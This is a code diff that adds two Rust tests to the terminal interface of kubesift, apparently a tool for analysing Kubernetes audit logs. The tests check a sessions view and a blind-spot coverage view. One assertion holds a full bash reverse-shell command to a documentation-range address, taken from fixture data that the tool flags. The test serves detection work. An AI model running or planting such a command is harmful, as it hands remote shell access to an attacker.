@@ -232,3 +232,77 @@ fn detections_find_sort_and_kill_chain_on_a_wide_screen() {
         "Enter opens the finding's events"
     );
 }
+
+#[test]
+fn sessions_of_an_exec_event_at_80x24_show_its_decoded_command_and_keep_their_place() {
+    use kubesift::tui::components::View;
+    let (mut app, mut engine) = start((80, 24));
+    exec_events(&mut app, &mut engine);
+    // The reverse shell: the last exec event but one.
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::Bottom, Action::Up, Action::Sessions],
+    );
+    assert_eq!(app.view, View::Sessions);
+    let s = screen(&app);
+    assert!(s.contains("sessions of sa:shop/web"), "{s}");
+    assert!(
+        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
+        "the cursor on the event's command, decoded, in full:\n{s}"
+    );
+    assert!(
+        s.contains("from 198.51.100.77"),
+        "the session's address:\n{s}"
+    );
+    insta::assert_snapshot!("sessions_80x24", s);
+
+    // Enter opens the command's event, with its credential's lineage; q comes back to the
+    // same place.
+    let place = app.session_view.cursor;
+    act(&mut app, &mut engine, &[Action::Open]);
+    assert_eq!(app.view, View::Detail);
+    let event = app.detail.event.as_ref().unwrap();
+    assert_eq!(event.audit_id, "a9c8559f-5b52-443f-9423-d40679cc3613");
+    let lines = format!("{:?}", app.detail.lines());
+    assert!(lines.contains("bound to pod"), "{lines}");
+    assert!(
+        lines.contains("⚠ used from") && lines.contains("198.51.100.77"),
+        "use away from the pod is flagged: {lines}"
+    );
+    act(&mut app, &mut engine, &[Action::Back]);
+    assert_eq!(app.view, View::Sessions);
+    assert_eq!(app.session_view.cursor, place, "the view kept its place");
+}
+
+#[test]
+fn coverage_view_at_80x24_and_the_header_marks_blind_spots() {
+    use kubesift::tui::components::View;
+    let (mut app, mut engine) = start((80, 24));
+    let req = app.coverage_request();
+    let resp = engine.handle(req);
+    let eff = app.update(Action::Response(Box::new(resp)));
+    settle(&mut app, &mut engine, eff);
+    let n = app.coverage_view.blind_spots();
+    assert!(n > 0, "the sample has blind spots");
+    let s = screen(&app);
+    let header = s.lines().next().unwrap();
+    assert!(
+        header.contains(&format!("⚠ blind spots: {n}")),
+        "the marker fits 80 columns: {header}"
+    );
+    let footer = s.lines().last().unwrap();
+    assert!(footer.contains("6 blind spots"), "{footer}");
+    act(
+        &mut app,
+        &mut engine,
+        &[Action::ViewEvents, Action::Command],
+    );
+    typed(&mut app, &mut engine, "coverage");
+    act(&mut app, &mut engine, &[Action::Submit]);
+    assert_eq!(app.view, View::Coverage, ":coverage opens the view");
+    let s = screen(&app);
+    assert!(s.contains(&format!("coverage — blind spots: {n}")), "{s}");
+    assert!(s.contains("RequestReceived"), "{s}");
+    insta::assert_snapshot!("coverage_80x24", s);
+}
